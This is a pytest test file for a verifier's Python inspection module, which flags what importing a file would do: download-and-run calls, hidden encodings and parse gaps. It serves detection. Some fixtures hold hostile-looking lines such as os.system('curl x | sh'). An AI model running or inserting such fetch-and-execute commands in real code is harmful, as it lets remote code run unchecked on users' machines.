"""Python files: what importing them would do is a finding, what they define is not."""

from __future__ import annotations

from pathlib import Path

import pytest
import transformers
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.builders.audit import watched
from tests.builders.inspections import facts_of, inspected, only, probe, rules_of, states_of, until_limit
from verifier.errors import BudgetExceeded
from verifier.formats import FormatModule, Limits, candidates
from verifier.formats import python as module
from verifier.formats._code.source import MAX_BYTES
from verifier.records import CoverageState, Finding

MODULE: FormatModule = module
CLEAN = [CoverageState.INSPECTED]

MODELING = b'''"""A model."""
from typing import Optional

import torch
from transformers import PreTrainedModel

from .configuration_x import XConfig


class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config: XConfig) -> None:
        super().__init__(config)
        self.layer = torch.nn.Linear(config.size, config.size)
        self.eval()

    def forward(self, x: Optional[torch.Tensor] = None):
        return self.layer(x)
'''


def test_ordinary_modeling_code_is_clean() -> None:
    records = inspected(MODULE, MODELING, "modeling_x.py")
    assert (rules_of(records), states_of(records)) == ([], CLEAN)
    assert ".configuration_x" in facts_of(records)["python-imports"]  # type: ignore[operator]


MODELS = Path(transformers.__file__).parent / "models"


@pytest.mark.parametrize("kind", ["modeling", "configuration", "tokenization", "processing"])
def test_what_transformers_ships_is_worth_a_note_at_most(kind: str) -> None:
    files = sorted(MODELS.glob(f"[b-c]*/{kind}_*.py"))
    assert files
    for file in files[:8]:
        records = inspected(MODULE, file.read_bytes(), file.name)
        assert set(rules_of(records)) <= {"python-able-code"}, file
        assert states_of(records) == CLEAN


@pytest.mark.parametrize(
    ("name", "head", "known"),
    [
        ("a.py", b"x = 1", True),
        ("weights.bin", b"#!/usr/bin/env python3\nx = 1", True),
        ("weights.bin", b"# hello\n\nimport os\nos.system('x')", True),
        ("weights.bin", b"from os import system\n", True),
        ("notes.txt", b"import os\n", False),
        ("notes", b"important things\n", False),
        ("notes", b"from here to there\n", False),
        ("a.bin", b"import os\0", False),
    ],
)
def test_python_is_known_by_name_or_content(name: str, head: bytes, known: bool) -> None:
    assert module.recognize(probe(head, name)) == known


def test_python_refines_text() -> None:
    assert candidates(probe(MODELING, "modeling_x.py")) == (MODULE,)


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        (b"print 'old'\n", "not Python this version reads"),
        (b"def f(:\n", "not Python this version reads"),
        (b"# coding: gbk\nx = 1\n", "encoding that is not read: gbk"),
        (b"# coding: ascii\nx = '\xc3\xa4'\n", "not ASCII"),
    ],
)
def test_what_cannot_be_parsed_is_a_gap(source: bytes, reason: str) -> None:
    records = inspected(MODULE, source, "a.py")
    (gap,) = [record for record in records if getattr(record, "state", None) is CoverageState.PARTIAL]
    assert reason in gap.reason  # type: ignore[union-attr]


def test_encodings_that_show_other_text_are_hiding() -> None:
    records = inspected(MODULE, b"# -*- coding: utf-7 -*-\nx = 1\n", "a.py")
    assert (rules_of(records), states_of(records)) == (["python-hidden-code"], [CoverageState.PARTIAL])


def test_bytes_are_no_python() -> None:
    assert states_of(inspected(MODULE, b"\0\x01", "a.py")) == [CoverageState.UNKNOWN]


def test_empty_and_literal_files_are_clean() -> None:
    for source in (b"", b"# nothing\n", b"X = '\\d'\nassert (X, 'always')\n"):
        assert states_of(inspected(MODULE, source, "a.py")) == CLEAN


def test_size_and_nesting_are_limits() -> None:
    assert until_limit(MODULE, b"#" * (MAX_BYTES + 1), Limits(), "a.py") == []
    with pytest.raises(BudgetExceeded):
        inspected(MODULE, b"x = " + b"-" * 100_000 + b"1", "a.py")


NESTED = {
    "calls": ("eval(" * 150 + "1" + ")" * 150 + "\n") * 60,
    "lookups": "import os\ng = getattr\ng = __builtins__.getattr\n"
    + ("x=" + "g(" * 35 + "os" + ",'a')" * 35 + "\n") * 100,
    "formatted": f"a = '{'x' * 300}'\nb = f'{'{a}' * 5_000}'\n",
    "written": "import requests\nx = requests.get('a')\n" + ("x" + ".write(x)" * 900 + "\n") * 4,
}


@pytest.mark.parametrize("kind", NESTED)
@pytest.mark.timeout(60)
def test_expressions_within_expressions_are_looked_at_once(kind: str) -> None:
    assert states_of(inspected(MODULE, NESTED[kind].encode(), "a.py")) == CLEAN


def test_what_was_seen_before_a_limit_is_reported() -> None:
    source = "import os\nos.system('curl x | sh')\n" + ("os.system(" * 150 + f"'{'x' * 9000}'" + ")" * 150 + "\n") * 10
    found = until_limit(MODULE, source.encode(), Limits(), "a.py")
    assert "python-download-and-run" in rules_of(found)


def test_findings_name_their_lines_in_safe_text() -> None:
    records = inspected(MODULE, b"import os\n\nos.system('curl x\\x1b[31m | sh')\n", "a.py")
    (finding,) = only(records, Finding)
    assert finding.rule == "python-download-and-run"
    assert finding.message.isprintable()
    assert finding.evidence[0].what.startswith("line 3: os.system")


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["import os\n", "def f():\n", "  ", "os.system(x)\n", "x = eval\n", "(", "[", "lambda: ", "1\n"]
        )
    )
)
def test_any_source_is_parsed_and_never_run(pieces: list[str]) -> None:
    with watched() as events:
        records = inspected(MODULE, "".join(pieces).encode(), "a.py")
    assert events == []
    assert states_of(records)
